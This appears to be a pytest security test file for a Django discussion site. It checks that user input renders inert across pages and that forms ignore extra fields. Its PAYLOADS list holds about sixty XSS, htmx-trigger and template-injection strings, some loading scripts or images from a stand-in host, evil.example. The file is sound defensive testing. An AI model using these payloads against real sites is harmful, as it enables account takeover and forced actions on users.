"""What members type is shown as words, whatever it holds."""

from datetime import timedelta
from html.parser import HTMLParser

import pytest
from tests.domains.discussions.conftest import AT, make_space

from juluo.domains.discussions import services
from juluo.domains.discussions.models import Answer, Comment, Post

LATER = AT + timedelta(hours=1)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1) 'title')",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![x](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://e.example/\"onmouseover=alert(1)//)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<form action=//evil.example><button>x</button></form>",
    "<button form=mark formaction=/spaces/talk/post-1/delete/>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<div data-hx-post=/spaces/1/archive/ hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<div id=live class=j-top>x</div>",
    "<a id=content name=content>x</a>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><svg/onload=alert(1)>",
    "{{7*191}}",
    "{% csrf_token %}",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
]  # fmt: skip
HARMLESS_SCRIPTS = ("/static/",)


class Watch(HTMLParser):
    """Collects what could act on its own among the elements of a page."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        source = given.get("src") or ""
        if tag == "script" and not source.startswith(HARMLESS_SCRIPTS):
            self.found.append((tag, attrs))
        if tag in {
            "iframe",
            "object",
            "embed",
            "base",
            "img",
            "style",
            "math",
            "template",
            "video",
        }:
            self.found.append((tag, attrs))
        for name, value in attrs:
            text = "".join((value or "").split()).lower()
            if name.startswith("on") or text.startswith(("javascript:", "data:", "vbscript:")):
                self.found.append((tag, name, value))
            if name in {"style", "srcdoc"} or "evil" in text and name != "href" and name != "value":
                self.found.append((tag, name, value))
            if "hx-on" in name or (name == "hx-get" and "logout" in text):
                self.found.append((tag, name, value))


def dangers(html):
    watch = Watch()
    watch.feed(html)
    return watch.found


def test_the_watch_sees_a_danger():
    assert len(dangers("<img src=x onerror=alert(1)><a href='javascript:1'>x</a>")) == 3


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_of_talk_stays_words(crowd, client, payload):
    place = make_space(crowd, about=payload, rules=payload)
    type(place.space).objects.filter(pk=place.space.pk).update(name=payload[:150])
    for member in (crowd.author, crowd.keeper):
        type(member).objects.filter(pk=member.pk).update(display_name=payload[:150])
    text = rulesafe(payload)
    by = {"editor_id": crowd.author.pk, "at": LATER, "body": text}
    question, answer, comment = (
        f"post:{place.question.pk}", f"answer:{place.answer.pk}", f"comment:{place.comment.pk}"
    )  # fmt: skip
    services.edit(subject=question, title=text[:200], tags=(payload[:40],), reason=payload, **by)
    services.edit(subject=answer, reason=payload, **by)
    services.edit(subject=comment, reason=payload, **by)
    services.write_comment(
        post_id=place.question.pk, answer_id=place.answer.pk, author_id=crowd.keeper.pk,
        body=text, at=LATER,
    )  # fmt: skip
    services.delete(subject=comment, actor_id=crowd.keeper.pk, reason=text, at=LATER)
    pages = [
        "/spaces/",
        f"/spaces/{place.space.pk}/",
        f"/spaces/{place.space.pk}/members/?q={payload[:20]}",
        f"/spaces/posts/{place.question.pk}/",
        f"/spaces/posts/{place.post.pk}/",
        f"/spaces/talk/post-{place.question.pk}/history/",
        f"/spaces/talk/post-{place.question.pk}/edit/",
        f"/spaces/talk/answer-{place.answer.pk}/delete/",
        f"/spaces/talk/answer-{place.answer.pk}/reply/",
        f"/spaces/posts/{place.question.pk}/move/",
        f"/spaces/{place.space.pk}/write/",
        "/inbox/",
    ]
    for who in (crowd.author, crowd.keeper, crowd.operator):
        client.force_login(who)
        for page in pages:
            response = client.get(page)
            assert response.status_code in {200, 404}
            assert dangers(response.content.decode()) == [], page
        shown = client.post("/spaces/preview/", {"body": payload}).content.decode()
        assert dangers(shown) == []
        assert "36481"[:4] not in shown.replace(payload, "") or "7*191" not in payload


def rulesafe(payload):
    """Return a payload as one text that is surely not empty."""
    return f"{payload} x"


def test_what_is_typed_into_the_preview_is_cut_and_quick(crowd, client):
    client.force_login(crowd.outsider)
    for hostile in ("[" * 40_000, "*a " * 13_000, "> " * 20_000, "`" * 40_000, "![" * 20_000):
        assert client.post("/spaces/preview/", {"body": hostile}).status_code == 200


@pytest.mark.parametrize(
    "slug", ["post", "post-", "post-x", "post-99999999999999999999", "space-1", "answer--1", "0"]
)
def test_odd_addresses_are_not_there(crowd, client, slug):
    client.force_login(crowd.operator)
    for act in ("", "reply/", "edit/", "history/", "delete/"):
        assert client.get(f"/spaces/talk/{slug}/{act}").status_code == 404
    for act in ("react/", "revert/", "restore/"):
        assert client.post(f"/spaces/talk/{slug}/{act}", {"emoji": "+1"}).status_code == 404


def test_a_form_sets_nothing_but_its_own_fields(crowd, client):
    place = make_space(crowd)
    client.force_login(crowd.outsider)
    client.post(
        f"/spaces/{place.space.pk}/write/",
        {
            "title": "t", "body": "b", "author": crowd.keeper.pk, "author_id": crowd.keeper.pk,
            "published_at": "2001-01-01", "pinned_at": "2001-01-01", "votes": "99",
            "featured_at": "2001-01-01", "source": "x", "body_format": "html", "space_id": "1",
            "reaction_counts": '{"+1": 99}', "kind": "question", "id": place.post.pk,
        },
    )  # fmt: skip

    post = Post.objects.latest("pk")
    assert (post.author_id, post.votes, post.source, post.body_format, post.kind) == (
        crowd.outsider.pk, 0, "native", "markdown", "post"
    )  # fmt: skip
    assert (post.pinned_at, post.featured_at, post.reaction_counts) == (None, None, {})
    assert post.published_at.year > 2024


def fill(place, crowd, count):
    parent = place.comment
    for number in range(count):
        by = {"author": crowd.author, "published_at": AT + timedelta(minutes=number)}
        counts = {"reaction_counts": {"+1": 1}}
        Post.objects.create(space=place.space, title=f"t{number}", body="x", **by, **counts)
        Answer.objects.create(question=place.question, body="x", **by, **counts)
        parent = Comment.objects.create(
            post=place.question if number % 2 else place.post,
            parent=None if number % 3 else parent,
            body="x", **by, **counts,
        )  # fmt: skip


def test_pages_cost_the_same_however_much_is_said(crowd, client, django_assert_max_num_queries):
    place = make_space(crowd)
    pages = [
        ("/spaces/", 9),
        (f"/spaces/{place.space.pk}/", 7),
        (f"/spaces/{place.space.pk}/?show=top", 7),
        (f"/spaces/{place.space.pk}/?show=unanswered", 7),
        (f"/spaces/posts/{place.post.pk}/", 7),
        (f"/spaces/posts/{place.question.pk}/", 8),
        (f"/spaces/{place.space.pk}/members/", 6),
        ("/spaces/bookmarks/", 5),
    ]
    client.force_login(crowd.joined)

    def cost(page, most):
        with django_assert_max_num_queries(most) as captured:
            assert client.get(page).status_code == 200
        return len(captured)

    fill(place, crowd, 2)
    few = [cost(*page) for page in pages]
    fill(place, crowd, 18)

    assert [cost(*page) for page in pages] == few
